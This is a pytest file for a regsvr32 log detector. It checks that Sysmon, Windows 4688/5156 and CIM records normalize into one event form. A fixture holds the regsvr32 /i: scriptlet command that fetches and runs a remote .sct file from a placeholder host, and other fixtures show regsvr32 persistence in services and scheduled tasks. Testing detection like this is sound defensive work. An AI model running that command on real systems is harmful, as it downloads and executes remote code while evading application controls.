"""Every input shape normalizes to the same Event; rows that cannot concern regsvr32 are rejected."""
import pytest

from regsvr32_detector import fields
from regsvr32_detector.fields import normalize

pytestmark = pytest.mark.pure

SYS32 = "C:\\Windows\\System32\\regsvr32.exe"
CMD = "regsvr32 /s /u /i:http://h.example/a.sct scrobj.dll"

# shape, record, expected (kind, image, command line, parent image)
SHAPES = [
    ("sysmon 1", {"EventCode": "1", "Image": SYS32, "CommandLine": CMD, "ParentImage": "C:\\p.exe"},
     ("process", SYS32, CMD, "C:\\p.exe")),
    ("sysmon EventID", {"EventID": "1", "Image": SYS32, "CommandLine": CMD, "ParentImage": "C:\\p.exe"},
     ("process", SYS32, CMD, "C:\\p.exe")),
    ("4688 xml", {"EventCode": "4688", "NewProcessName": SYS32, "CommandLine": CMD,
                  "ParentProcessName": "C:\\p.exe"}, ("process", SYS32, CMD, "C:\\p.exe")),
    ("4688 classic", {"EventCode": "4688", "New_Process_Name": SYS32, "Process_Command_Line": CMD,
                      "Creator_Process_Name": "C:\\p.exe"}, ("process", SYS32, CMD, "C:\\p.exe")),
    ("cim", {"process_path": SYS32, "process": CMD, "parent_process_path": "C:\\p.exe",
             "process_name": "regsvr32.exe"}, ("process", SYS32, CMD, "C:\\p.exe")),
    ("cim tstats", {"Processes.process_path": SYS32, "Processes.process": CMD,
                    "Processes.parent_process_path": "C:\\p.exe"}, ("process", SYS32, CMD, "C:\\p.exe")),
    ("cim name only", {"Processes.process_name": "regsvr32.exe", "Processes.process": CMD},
     ("process", "", CMD, "")),
    ("sysmon 7", {"EventCode": "7", "Image": SYS32, "ImageLoaded": "C:\\a.dll"}, ("image_load", SYS32, "", "")),
    ("sysmon 3", {"EventCode": "3", "Image": SYS32, "DestinationIp": "1.2.3.4"}, ("network", SYS32, "", "")),
    ("sysmon 22", {"EventCode": "22", "Image": SYS32, "QueryName": "h"}, ("dns", SYS32, "", "")),
    ("sysmon 8", {"EventCode": "8", "SourceImage": SYS32, "TargetImage": "C:\\x.exe"},
     ("remote_thread", "", "", "")),
    ("sysmon 11", {"EventCode": "11", "Image": SYS32, "TargetFilename": "C:\\a.log"}, ("file", SYS32, "", "")),
    ("sysmon 13", {"EventCode": "13", "Image": SYS32, "TargetObject": "HKLM\\x", "Details": "y"},
     ("registry", SYS32, "", "")),
    ("cim registry", {"registry_path": "HKU\\x\\InprocServer32\\(Default)", "registry_value_data": "scrobj.dll",
                      "process_path": "C:\\Windows\\reg.exe"}, ("registry", "C:\\Windows\\reg.exe", "", "")),
    ("7045", {"EventCode": "7045", "ImagePath": "regsvr32 /s C:\\x.dll"}, ("persistence", "", "", "")),
    ("4698", {"EventCode": "4698", "TaskContent": "<Exec>regsvr32</Exec>"}, ("persistence", "", "", "")),
    ("5156", {"EventCode": "5156", "Application": "\\device\\harddiskvolume2\\windows\\system32\\regsvr32.exe",
              "Direction": "%%14593", "DestAddress": "151.101.0.133", "DestPort": "443"},
     ("network", "C:\\windows\\system32\\regsvr32.exe", "", "")),
]


@pytest.mark.parametrize("record, expected", [s[1:] for s in SHAPES], ids=[s[0] for s in SHAPES])
def test_shapes(record, expected):
    ev = normalize(record)
    assert (ev.kind, ev.image, ev.command_line, ev.parent_image) == expected


@pytest.mark.parametrize("record, initiated", [
    ({"Direction": "%%14593"}, "true"), ({"Direction": "Outbound"}, "true"),
    ({"Direction": "%%14592"}, "false"), ({"Direction": "Inbound"}, "false"), ({}, "")])
def test_security_5156_is_the_network_event_of_its_process(record, initiated):
    row = dict({"EventCode": "5156", "Application_Name": "\\device\\harddiskvolume4\\windows\\syswow64\\regsvr32.exe",
                "Destination_Address": "104.20.208.21", "Destination_Port": "80"}, **record)
    ev = normalize(row)
    assert (ev.kind, ev.is_regsvr32, ev.dest_ip, ev.dest_port, ev.initiated) == (
        "network", True, "104.20.208.21", "80", initiated)
    assert ev.image == "C:\\windows\\syswow64\\regsvr32.exe" and ev.device_paths


@pytest.mark.parametrize("record", [
    {"EventCode": "1", "Image": "C:\\Windows\\notepad.exe", "CommandLine": "notepad x.txt"},
    {"process_name": "chrome.exe", "process": "chrome.exe https://example.com/regsvr.html"},
    {"EventCode": "10", "SourceImage": SYS32, "TargetImage": "C:\\x.exe"},    # no logic for 10
    {"EventCode": "1", "Image": "-", "CommandLine": ""},
    {},
], ids=["notepad", "chrome", "unknown-code", "missing", "empty"])
def test_rejected(record):
    assert normalize(record) is None


@pytest.mark.parametrize("record, is_regsvr32", [
    ({"Image": SYS32}, True),
    ({"Image": "C:\\Windows\\System32\\REGSVR32.EXE"}, True),
    ({"Image": "C:\\x\\svc.exe", "OriginalFileName": "REGSVR32.EXE"}, True),
    ({"Image": "C:\\x\\svc.exe", "Description": "Microsoft(C) Register Server"}, True),
    ({"Image": "C:\\x\\regsvr32helper.exe", "CommandLine": "regsvr32"}, False),
])
def test_one_definition_of_regsvr32(record, is_regsvr32):
    record = dict(record, EventCode="1")
    assert normalize(record).is_regsvr32 is is_regsvr32


def test_first_non_missing_source_wins_and_dash_counts_as_missing():
    ev = normalize({"Image": "-", "NewProcessName": "", "process_path": SYS32, "process": CMD})
    assert ev.image == SYS32


def test_multivalue_takes_the_first_present_value():
    ev = normalize({"EventCode": "1", "Image": SYS32, "CommandLine": ["-", CMD, "other"]})
    assert ev.command_line == CMD


def test_every_alias_is_listed_once():
    sources = [s for _, group in fields.ALIASES for s in group]
    assert len(sources) == len(set(sources))
